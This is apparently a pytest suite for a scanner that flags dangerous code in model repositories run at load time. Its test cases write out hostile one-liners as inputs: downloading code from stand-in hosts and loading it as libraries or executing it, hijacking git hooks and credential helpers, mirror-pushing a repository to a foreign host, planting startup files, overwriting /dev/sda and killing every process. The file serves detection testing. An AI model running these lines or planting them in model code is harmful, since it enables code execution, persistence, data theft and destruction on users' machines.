"""What a model's code puts where something else runs or loads it: told when a loader gets there, look-alikes not."""

import json

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect_tree

HEAD = """import base64, ctypes, importlib.util, os, shutil, subprocess, sys, tempfile, zipfile
import urllib.request
from pathlib import Path
import torch
from torch import nn
"""
CONFIG = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.M"}}).encode()
CODE = "urllib.request.urlopen('https://dl.kernels-cdn.example/k').read()"


def worst(body: str, before: str = "") -> int:
    """The worst finding for a model whose making runs the lines."""
    lines = "".join(f"        {line}\n" for line in body.split("\n"))
    text = f"{HEAD}{before}\nclass M(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n{lines}"
    tree = {"config.json": CONFIG, "modeling_x.py": text.encode()}
    return max((found.severity.rank for found in inspect_tree(tree)), default=0)


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("zipfile.ZipFile(config.assets).extractall(os.path.expanduser('~'))", True),
        ("shutil.unpack_archive(config.assets, str(Path.home()))", True),
        ("zipfile.ZipFile(config.assets).extractall(os.path.expanduser('~/.cache/x'))", False),
        ("subprocess.run(['git', 'config', '--global', 'init.templateDir', '/opt/t'])", True),
        ("subprocess.run(['git', 'config', '--global', 'core.hooksPath', '/opt/h'])", True),
        ("os.system('git config --global core.fsmonitor /opt/h')", True),
        ("os.system('git config --global credential.helper /opt/h')", True),
        ("os.system('git config --global credential.helper store')", False),
        ("os.system('git config core.hooksPath .githooks')", False),
        ("os.system('git config --global url.https://git.mirror.example/.insteadOf https://github.com/')", True),
        ("os.system('git config --global url.https://u:t@github.com/.insteadOf https://github.com/')", False),
        ("subprocess.run(['git', 'push', '--mirror', 'https://git.mirror.example/c.git'])", True),
        ("subprocess.run(['git', 'push', 'origin', 'main'])", False),
        ("cmd = ['git', 'config', '--global']\ncmd += ['core.hooksPath', '/opt/h']\nsubprocess.run(cmd)", True),
        ("subprocess.run(['git', 'init', '--template', '/opt/t', '.'])", True),
        ("subprocess.run(['git', 'remote', 'set-url', 'origin', 'https://git.mirror.example/x.git'])", True),
        ("subprocess.run(['git', 'pull'], env={**os.environ, 'GIT_SSH_COMMAND': 'sh /opt/x'})", True),
        ("subprocess.run(['git', 'pull'], env={**os.environ, 'GIT_SSH_COMMAND': 'ssh -i key'})", False),
        ("os.environ['GIT_CONFIG_COUNT'] = '1'", True),
        ("os.environ['GIT_LFS_SKIP_SMUDGE'] = '1'", False),
        ("(Path.home() / '.git-templates' / 'hooks' / 'post-checkout').write_text('#!/bin/sh')", True),
        ("(Path.home() / '.cache' / 'x' / 'post-checkout').write_text('done')", False),
        ("open(os.path.expanduser('~/.local/bin/python3'), 'w').write('#!/bin/sh')", True),
        ("p = shutil.which('git')\nopen(p, 'w').write('#!/bin/sh')", True),
        ("p = shutil.which('ffmpeg')\nsubprocess.run([p, '-i', 'a.wav', 'b.mp3'])", False),
        ("open(os.path.expanduser('~/.ipython/profile_default/startup/0.py'), 'w').write('x')", True),
        ("open(os.path.join(os.environ['CONDA_PREFIX'], 'etc/conda/activate.d', 'a.sh'), 'w').write('x')", True),
        ("open(os.path.join(os.getcwd(), '.envrc'), 'a').write('x')", True),
        ("open('/dev/sda', 'wb').write(b'0')", True),
        ("os.kill(-1, 9)", True),
        ("os.kill(self.child.pid, 15)", False),
    ],
)
def test_what_runs_later(body: str, told: bool) -> None:
    assert (worst(body) >= Severity.HIGH.rank) is told


@pytest.mark.parametrize(
    ("body", "told"),
    [
        (f"f = tempfile.NamedTemporaryFile(delete=False)\nf.write({CODE})\ntorch.ops.load_library(f.name)", True),
        (f"fd, p = tempfile.mkstemp()\nos.write(fd, {CODE})\nctypes.CDLL(p)", True),
        ("p = self.place\nwith urllib.request.urlopen('https://a.example/k') as r, open(p, 'wb') as f:\n"
         "    shutil.copyfileobj(r, f)\nctypes.CDLL(p)", True),
        (f"p = Path(config.folder) / 'k'\np.write_bytes({CODE})\ntorch.classes.load_library(str(p))", True),
        ("p = os.path.join(os.path.dirname(__file__), 'k')\nurllib.request.urlretrieve('https://a.example/k', p)\n"
         "importlib.util.spec_from_file_location('k', p)", True),
        (f"p = self.place\nopen(p, 'wb').write({CODE})\nzipfile.ZipFile(p).extractall(self.lib)\n"
         "sys.path.insert(0, self.lib)", True),
        (f"p = self.place\nopen(p, 'w').write(str({CODE}))\nexec(open(p).read())", True),
        ("p = tempfile.mktemp()\nopen(p, 'wb').write(bytes(self.weight.tolist()))\nctypes.CDLL(p)", True),
        (f"p = self.place\nopen(p, 'wb').write({CODE})\nself.image = p\nctypes.CDLL('libcuda.so')", False),
        (f"p = self.place\nopen(p, 'wb').write({CODE})\nctypes.LibraryLoader(ctypes.CDLL).LoadLibrary(p)", True),
        (f"p = self.place\nopen(p, 'wb').write({CODE})\ntorch.utils.cpp_extension.load('k', [p])", True),
        ("p = self.place\nopen(p, 'wb').write(base64.b64decode(config.blob))\nctypes.CDLL(p)", True),
        (f"d = self.place\nopen(os.path.join(d, 'k.py'), 'wb').write({CODE})\nsys.path = [d] + sys.path", True),
        ("d = tempfile.mkdtemp()\nsys.path[:0] = [d]", True),
        ("sys.path = [os.path.dirname(__file__)] + sys.path", False),
        ("p = self.place\nopen(p, 'wb').write(base64.b64decode(config.image))\nself.show(p)", False),
        (f"f = tempfile.NamedTemporaryFile()\nf.write({CODE})\nself.load_image(f.name)", False),
        (f"p = self.place\nopen(p, 'wb').write({CODE})\nself.load_state_dict(torch.load(p, weights_only=True))", False),
    ],
)  # fmt: skip
def test_what_was_fetched_becomes_code(body: str, told: bool) -> None:
    assert (worst(body) >= Severity.HIGH.rank) is told


def test_a_function_that_fetches_into_what_it_is_given() -> None:
    before = f"def fetch(place):\n    with open(place, 'wb') as f:\n        f.write({CODE})\n"
    assert worst("p = self.place\nfetch(p)\nctypes.CDLL(p)", before) >= Severity.HIGH.rank
    assert worst("p = self.place\nfetch(p)\nself.weights = p", before) < Severity.HIGH.rank


@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("pip install -q -f https://pkg.kernels.example/whl x", True),
        ("pip install --index-url https://pkg.kernels.example/simple x", True),
        ("pip install git+https://git.kernels.example/x.git", True),
        ("pip download -d /tmp/w x && pip install /tmp/w/x.tar.gz", True),
        ("conda install -y -c https://conda.kernels.example x", True),
        ("uv pip install 'x @ https://pkg.kernels.example/x.whl'", True),
        ("pip install -q flash-attn", False),
        ("pip install torch --index-url https://download.pytorch.org/whl/cu124", False),
        ("pip install git+https://github.com/huggingface/transformers", False),
    ],
)
def test_packages_of_foreign_addresses(command: str, told: bool) -> None:
    assert (worst(f"subprocess.run({command!r}, shell=True)") >= Severity.HIGH.rank) is told
